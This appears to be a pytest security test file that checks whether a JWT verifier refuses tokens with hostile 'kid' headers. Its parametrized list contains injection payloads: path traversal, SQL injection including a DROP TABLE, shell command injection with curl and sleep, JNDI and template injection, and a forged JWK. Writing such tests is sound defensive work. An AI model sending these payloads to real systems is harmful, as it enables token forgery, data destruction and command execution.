"""Names of keys: a `kid` that walks, selects, runs or pretends."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from tests.security.attacks import attack
from tests.security.door import Door
from tests.security.forger import (
    GOOD,
    HEADER,
    KID,
    OLD_KID,
    OLD_SECRET,
    SECRET,
    changed,
    encode,
    signed,
)

ROOT = Path(__file__).parents[2]
TEXT = json.dumps(HEADER, separators=(",", ":"))
# A key that its holder gives away: what `jwk`, `jku` and the like would have the verifier trust.
FORGED = b"a secret that a forger has made for himself, long enough"
JWK = {"kty": "oct", "kid": KID, "alg": "HS256", "k": encode(FORGED)}


def test_control_both_names_of_keys_are_good(door: Door) -> None:
    door.lets_in(GOOD)
    door.lets_in(signed(changed(HEADER, kid=OLD_KID), secret=OLD_SECRET))


@pytest.mark.parametrize(
    ("kid", "secret"),
    [
        attack("kid that walks to /dev/null", "../../../../../../dev/null", b""),
        attack("kid /dev/null", "/dev/null", b""),
        attack("kid file:///dev/null", "file:///dev/null", b""),
        attack("empty kid and empty secret", "", b""),
        attack("kid of a file that always holds 2", "/proc/sys/kernel/randomize_va_space", b"2\n"),
        attack(
            "kid of a file that everybody has", "config.yml", (ROOT / "config.yml").read_bytes()
        ),
        attack("kid of a page of this service", "/live", b'{"status":"live"}'),
        attack("kid that selects 1 in SQL", "x' UNION SELECT '1';--", b"1"),
        attack("kid that is always true in SQL", "' OR '1'='1", b""),
        attack("kid with a wildcard of SQL", "own-%", SECRET),
        attack("kid that drops a table", "x'; DROP TABLE signing_keys;--", b""),
        attack("kid that sleeps in a shell", "|sleep 10", b""),
        attack("kid that fetches in a shell", "$(curl https://example.org)", b""),
        attack("kid with back quotes", f"`echo {KID}`", SECRET),
        attack("kid of a template", "{{7*7}}", b"49"),
        attack("kid of a look-up", "${jndi:ldap://example.org/a}", b""),
        attack("kid of an address", "https://example.org/key.pem", FORGED),
        attack("kid of a search in LDAP", "*)(kid=*", SECRET),
        attack("kid __proto__", "__proto__", b""),
        attack("kid __class__", "__class__", b"str"),
        attack("kid of a pattern", ".*", SECRET),
        attack("kid and a zero byte", f"{KID}\0", SECRET),
        attack("kid, a zero byte and an ending", f"{KID}\0.pem", SECRET),
        attack("kid and a blank", f"{KID} ", SECRET),
        attack("kid and a line feed", f"{KID}\n", SECRET),
        attack("kid in capitals", KID.upper(), SECRET),
        attack("kid with full-width letters", "\uff4fwn-2026", SECRET),
        attack("kid with a Cyrillic letter", "\u043ewn-2026", SECRET),
        attack("kid in a form that Unicode calls equal", "own\u2010-2026", SECRET),
        attack("kid of half a pair", "\ud800", SECRET),
        attack("kid of the other key over my signature", OLD_KID, SECRET),
        attack("kids of both keys", f"{KID},{OLD_KID}", SECRET),
        attack("kid with its secret", f"{KID}:{SECRET.decode()}", SECRET),
        attack("kid of 2,000 characters", "k" * 2000, SECRET),
        attack("kid of 700,000 characters", "k" * 700_000, SECRET),
        attack("kid of a key that this service never had", "own-2024", FORGED),
        attack("kid in a list", [KID], SECRET),
        attack("kid in an object", {"kid": KID}, SECRET),
        attack("kid null", None, b""),
        attack("kid true", True, SECRET),
        attack("kid zero", 0, SECRET),
    ],
)
def test_another_kid(door: Door, kid: Any, secret: bytes) -> None:
    door.refuses(signed(changed(HEADER, kid=kid), secret=secret))
